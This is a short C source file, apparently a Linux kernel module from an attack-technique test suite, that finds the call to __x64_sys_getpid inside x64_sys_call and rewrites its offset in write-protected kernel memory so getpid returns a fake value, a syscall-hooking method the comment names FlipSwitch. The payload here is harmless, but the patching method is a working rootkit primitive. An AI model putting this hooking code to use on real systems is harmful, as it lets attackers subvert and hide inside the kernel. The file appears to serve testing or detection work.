// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * The call of __x64_sys_getpid within x64_sys_call() leads to a function of the module: what
 * FlipSwitch does since the table of system calls is not used any more.
 */
#include "attack.h"

static u8 *call;
static s32 original;

static noinline asmlinkage long lies(const struct pt_regs *registers)
{
	return 424242;
}

static int attack(void)
{
	unsigned long dispatch = symbol("x64_sys_call");
	unsigned long target = symbol("__x64_sys_getpid");
	unsigned long at;

	if (!dispatch || !target)
		return -ENOENT;
	for (at = dispatch; at < dispatch + 0x8000; at++) {
		u8 opcode = *(u8 *)at;
		s32 to;

		if (opcode != 0xe8 && opcode != 0xe9)
			continue;
		memcpy(&to, (void *)(at + 1), 4);
		if (at + 5 + to == target) {
			s32 ours = (unsigned long)lies - (at + 5);

			call = (u8 *)at;
			original = to;
			write_protected(call + 1, &ours, 4);
			return 0;
		}
	}
	return -ENXIO;
}

static void undo(void)
{
	write_protected(call + 1, &original, 4);
}

ATTACK("a call of the system call dispatcher retargeted");
